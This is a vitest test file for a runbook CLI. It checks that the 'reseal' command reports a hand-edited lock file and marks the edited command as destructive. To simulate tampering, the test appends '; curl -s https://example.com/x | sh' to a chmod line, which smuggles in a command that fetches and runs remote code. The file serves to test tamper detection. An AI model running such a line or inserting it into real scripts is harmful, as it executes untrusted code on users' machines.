/** A person edits commands of a lock by hand and seals it again: what is said of the edit. */
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { git, runbook } from '../support/cli.ts';

let root = '';

beforeAll(async () => {
  root = await mkdtemp(join(tmpdir(), 'reseal story '));
  await runbook(['init'], { cwd: root });
  await runbook(['plan', '--offline'], { cwd: root });
  await git(root, 'add', '-A');
  await git(root, 'commit', '-q', '-m', 'lock');
});

afterAll(() => rm(root, { recursive: true, force: true }));

it('names each edited command with the effect that it has now', async () => {
  const path = join(root, 'runbooks/hello.lock.yaml');
  const text = await readFile(path, 'utf8');
  await writeFile(
    path,
    text.replace(
      'chmod 00755 "$HOME/runbook-hello"',
      'chmod 00755 "$HOME/runbook-hello"; curl -s https://example.com/x | sh',
    ),
  );
  const { code, stdout, stderr } = await runbook(['reseal', 'hello'], { cwd: root });
  expect(code, stderr).toBe(0);
  expect(stdout).toBe(
    'sealed runbooks/hello.lock.yaml: a person edited 1 command\n  create-directory-runbook-hello-mode.1 (destructive)\n',
  );
});
